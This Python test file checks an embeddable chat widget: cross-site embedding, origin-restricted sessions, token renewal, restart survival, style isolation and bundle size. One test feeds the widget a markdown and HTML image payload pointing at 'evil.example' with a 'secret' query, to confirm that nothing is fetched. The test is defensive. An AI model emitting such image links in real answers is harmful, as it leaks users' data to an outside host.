"""The widget on pages of other sites: one script tag, sessions from the site's own backend."""

import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import httpx2
import pytest
from playwright.async_api import expect

from bench.processes import free_port
from tests.conftest import Start
from tests.support import Service, embedded_upstream, make_settings, served
from tests.web.conftest import WEB, Open
from tests.web.support import Site, Visit, mint, origin_of, playground, site

KEY = "a-key-of-the-shop"
AUTH: dict[str, Any] = {
    "auth_mode": "api_key",
    "api_keys": {"shop": KEY},
    "secret_keys": ["secret-of-the-tests-with-32-characters"],
}
LIMIT_BYTES = 130_000


@asynccontextmanager
async def shop(start: Start, *, allowed: bool = True, **settings: Any) -> AsyncIterator[tuple[Site, Service]]:
    """A site with the service behind it, which lets the site's pages call or not."""
    async with site() as found:
        origins = [found.origin] if allowed else []
        async with start(is_served=True, cors_origins=origins, **(AUTH | settings)) as service:
            found.tokens = [await mint(service, KEY, origins=[found.origin])]
            found.pages["/"] = page_with(service)
            yield found, service


def page_with(service: Service, attributes: str = "", before: str = "") -> str:
    script = f"{origin_of(service.base_url)}/embed.js"
    tag = f'<script type="module" src="{script}" data-token-url="/token" {attributes}></script>'
    return f"{before}<h1>Shop</h1>{tag}"


async def enter(visit: Open, found: Site, service: Service, path: str = "/") -> Visit:
    opened: Visit = await visit(found.origin + path, origins=(origin_of(service.base_url),))
    return opened


async def open_bubble(visit: Open, found: Site, service: Service) -> Visit:
    chat = await enter(visit, found, service)
    await chat.button("Open chat").click()
    await expect(chat.input).to_be_focused()
    return chat


async def test_a_script_tag_puts_a_chat_on_another_site(start: Start, visit: Open):
    async with shop(start) as (found, service):
        chat = await open_bubble(visit, found, service)
        await chat.say("hello")
        await expect(chat.answer).to_have_text("You said: hello")
        headers = chat.posts("/chat")[0].headers
        assert headers["authorization"] == f"Bearer {found.tokens[0]['client_secret']}"
        assert KEY not in str(await chat.page.content())
        await chat.page.keyboard.press("Escape")
        await expect(chat.input).to_be_hidden()
        await expect(chat.button("Open chat")).to_be_focused()


async def test_pictures_and_links_of_an_answer_ask_nobody(start: Start, visit: Open):
    async with shop(start) as (found, service):
        chat = await open_bubble(visit, found, service)
        secret = "https://evil.example/?q=secret"
        await chat.say(f"![a]({secret}) [c]({secret}) <img src='{secret}'>")
        await expect(chat.answer.locator("a")).to_have_attribute("href", secret)
        await expect(chat.answer).to_contain_text("a c <img")
        # `visit` checks at its end that no request has left for another origin.
        await expect(chat.answer.locator("img")).to_have_count(0)


async def test_the_thread_is_remembered_from_page_to_page(start: Start, visit: Open):
    async with shop(start) as (found, service):
        found.pages["/other"] = found.pages["/"]
        chat = await open_bubble(visit, found, service)
        await chat.say("hello")
        await expect(chat.answer).to_have_text("You said: hello")
        await chat.page.goto(found.origin + "/other")
        await chat.button("Open chat").click()
        await expect(chat.questions).to_have_text(["hello"])


async def test_a_site_without_permission_gets_nothing(start: Start, visit: Open):
    async with shop(start, allowed=False) as (found, service):
        chat = await open_bubble(visit, found, service)
        await chat.say("hello")
        await expect(chat.log.get_by_text("The service cannot be reached.")).to_be_visible()


async def test_a_session_of_another_site_is_refused(start: Start, visit: Open):
    async with shop(start) as (found, service):
        found.tokens = [await mint(service, KEY, origins=["https://elsewhere.test"])]
        chat = await open_bubble(visit, found, service)
        await chat.say("hello")
        await expect(chat.page.locator(".error-message-text")).to_be_visible()
        await expect(chat.answer).to_have_count(0)


async def test_a_session_that_ended_is_replaced_in_the_middle_of_a_chat(start: Start, visit: Open):
    async with shop(start) as (found, service):
        dead = {"client_secret": "ss_dead", "expires_at": found.tokens[0]["expires_at"]}
        found.tokens = [found.tokens[0], dead]
        chat = await open_bubble(visit, found, service)
        await chat.say("hello")
        await expect(chat.answer).to_have_text("You said: hello")
        found.tokens = [dead, await mint(service, KEY, origins=[found.origin])]
        found.token_calls = 0
        await chat.page.reload()
        await chat.button("Open chat").click()
        await expect(chat.questions).to_have_text(["hello"])
        await chat.say("again")
        await expect(chat.answer).to_have_text("You said: again")
        assert found.token_calls == len(found.tokens)


async def test_a_session_is_renewed_before_it_ends(start: Start, visit: Open):
    async with shop(start) as (found, service):
        # Already within the last quarter of its life when it arrives late.
        found.tokens = [{**found.tokens[0], "expires_at": 0}, found.tokens[0]]
        chat = await open_bubble(visit, found, service)
        await chat.say("hello")
        await expect(chat.answer).to_have_text("You said: hello")
        await chat.say("again")
        await expect(chat.answer).to_have_text("You said: again")
        assert found.token_calls == 2
        assert [401 for sent in chat.posts("/chat") if (await sent.response()).status == 401] == []  # type: ignore[union-attr]  # answered, as the text shows


async def test_an_answer_survives_a_restart_of_the_service(visit: Open):
    async with embedded_upstream() as url:
        settings = make_settings(openai_base_url=url, openai_api_key="key", shutdown_grace_seconds=0.1)
        port = free_port()
        async with served(settings, port) as first:
            chat = await visit(playground(first))
            await chat.say("slow:150 go")
            await expect(chat.answer).to_contain_text("word9")
        await expect(chat.page.get_by_text("Reconnecting")).to_be_visible()
        async with served(settings, port):
            await expect(chat.answer).to_contain_text("word149")
            words = (await chat.answer.inner_text()).split()
            assert words == [f"word{number}" for number in range(150)]


async def test_an_inline_chat_takes_the_sites_colours_but_not_its_styles(start: Start, visit: Open):
    async with shop(start) as (found, service):
        styles = (
            "<style>* { color: rgb(255, 0, 0) !important; font-size: 40px !important; }"
            "soloist-chat { --soloist-accent: rgb(0, 128, 0); height: 500px; }</style>"
            "<soloist-chat heading='Ask us' greeting='Welcome'></soloist-chat>"
        )
        found.pages["/"] = page_with(service, before=styles)
        chat = await enter(visit, found, service)
        await expect(chat.page.get_by_role("heading", name="Ask us")).to_be_visible()
        await expect(chat.page.get_by_text("Welcome")).to_be_visible()
        await chat.say("slow: go")
        await expect(chat.answer).to_contain_text("word3")
        styled = "element => [getComputedStyle(element).color, getComputedStyle(element).fontSize]"
        assert await chat.answer.evaluate(styled) == ["rgb(27, 27, 31)", "15px"]
        await chat.button("Stop answering").click()
        await chat.input.click()
        await chat.page.keyboard.type("x")
        background = "element => getComputedStyle(element).backgroundColor"
        assert await chat.button("Send").evaluate(background) == "rgb(0, 128, 0)"


async def test_a_chat_that_a_framework_adds_later_works(start: Start, visit: Open):
    async with shop(start) as (found, service):
        found.pages["/"] = page_with(service, attributes='data-bubble="off"')
        chat = await enter(visit, found, service)
        await chat.page.evaluate("document.body.append(document.createElement('soloist-chat'))")
        await chat.say("hello")
        await expect(chat.answer).to_have_text("You said: hello")


async def test_on_a_phone_the_panel_fills_the_screen(start: Start, visit: Open):
    async with shop(start) as (found, service):
        size = {"width": 390, "height": 844}
        origins = (origin_of(service.base_url),)
        chat = await visit(found.origin + "/", origins=origins, viewport=size, color_scheme="dark")
        await chat.button("Open chat").click()
        await expect(chat.input).to_be_visible()
        box = await chat.page.locator("soloist-chat").bounding_box()
        assert box == {"x": 0, "y": 0, "width": 390, "height": 844}
        await chat.page.evaluate((WEB / "node_modules/axe-core/axe.min.js").read_text())
        scan = await chat.page.evaluate("axe.run('soloist-bubble')")
        serious = [rule["id"] for rule in scan["violations"] if rule["impact"] in {"serious", "critical"}]
        assert serious == []


@pytest.mark.usefixtures("bundle")
async def test_all_that_the_widget_loads_is_small(start: Start):
    async with start(is_served=True) as service:
        origin = origin_of(service.base_url)
        async with httpx2.AsyncClient(base_url=origin) as client:
            waiting, seen = ["/embed.js"], dict[str, int]()
            while waiting:
                path = waiting.pop()
                if path in seen:
                    continue
                response = await client.get(path)
                assert response.headers["access-control-allow-origin"] == "*"
                assert response.headers["content-encoding"] == "gzip"
                seen[path] = int(response.headers["content-length"])
                waiting += [
                    f"/assets/{name}" for name in re.findall(r'"\.(?:/assets)?/([\w-]+\.js)"', response.text)
                ]
        assert len(seen) > 1
        assert sum(seen.values()) <= LIMIT_BYTES


async def test_the_playground_gets_its_own_sessions_on_a_developers_machine(start: Start, visit: Open):
    async with start(is_served=True, playground_sessions=True, **AUTH) as service:
        chat = await visit(playground(service))
        await chat.say("hello")
        await expect(chat.answer).to_have_text("You said: hello")
        assert chat.posts("/chat")[0].headers["authorization"].startswith("Bearer ss_")


async def test_without_sessions_the_playground_says_what_to_set(start: Start, visit: Open):
    async with start(is_served=True, **AUTH) as service:
        chat = await visit(playground(service))
        await expect(chat.page.get_by_text("PLAYGROUND_TOKEN_URL")).to_be_visible()
        await expect(chat.input).to_have_count(0)
        refused = await service.client.post(origin_of(service.base_url) + "/playground/session")
        assert refused.status_code == 404
